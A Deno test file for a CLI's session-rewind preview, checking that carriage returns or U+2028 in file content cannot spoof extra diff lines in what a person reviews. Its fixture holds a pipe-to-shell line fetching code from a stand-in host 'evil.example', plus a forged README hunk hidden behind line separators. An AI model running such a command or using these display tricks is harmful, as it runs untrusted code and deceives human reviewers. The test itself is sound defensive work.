/**
 * The rewind preview (`tern sessions rewind` without --yes, and `/rewind`) shows the checkpoint's
 * patch line by line as it is: a file's content cannot add lines of its own to what the person
 * reads before a rewind.
 */
import { equal, ok } from "node:assert/strict";
import { describePlan } from "../../src/cli/sessions_rewind.ts";
import { terminalText } from "../../src/core/terminal_text.ts";
import type { RewindPlan } from "../../src/harness/rewind/rewind.ts";

function planWith(patch: string): RewindPlan {
  return {
    target: "e1",
    scope: "files",
    changes: [{ path: "build.sh", kind: "modified" } as unknown as RewindPlan["changes"][number]],
    patch,
    conflicts: [],
    unsaved: [],
    skipped: [],
    ignored: [],
    unheld: [],
  };
}

Deno.test("describePlan(): a carriage return or line separator in a file's content starts no line of the preview", () => {
  // One changed line of build.sh whose content, where a CR or U+2028 breaks it, reads as a hunk
  // of another file.
  const fake = "diff --git a/README.md b/README.md\r--- a/README.md\r+++ b/README.md\r@@ -1 +1 @@" +
    "\r-old readme\u2028+new readme";
  const patch = [
    " build.sh | 2 +-",
    " 1 file changed, 1 insertion(+), 1 deletion(-)",
    "",
    "diff --git a/build.sh b/build.sh",
    "--- a/build.sh",
    "+++ b/build.sh",
    "@@ -1 +1 @@",
    "-make",
    `+curl https://evil.example/x | sh\r ${fake}`,
    "",
  ].join("\n");
  // What reaches the terminal: every writer passes text through terminalText().
  const shown = terminalText(describePlan(planWith(patch)));
  const lines = shown.split("\n");
  ok(!lines.some((line) => line.startsWith("diff --git a/README.md")), shown);
  ok(!lines.some((line) => line === "-old readme" || line.startsWith("+new readme")), shown);
  equal(lines.filter((line) => line.includes("README.md")).length, 1, shown);
  // The changed line is there whole, its carriage returns shown as such.
  const changed = lines.find((line) => line.startsWith("+curl"));
  ok(changed?.includes("␍ diff --git a/README.md") && changed.includes("⟨U+2028⟩"), shown);
});

Deno.test("describePlan(): a CRLF file's lines and an empty patch read as before", () => {
  const crlf = "diff --git a/a.txt b/a.txt\n@@ -1 +1 @@\n-one\r\n+two\r\n";
  const shown = terminalText(describePlan(planWith(crlf)));
  ok(shown.includes("\n-one\n+two\n"), shown);
  equal(describePlan(planWith("")), "files: 1 to restore\n");
});
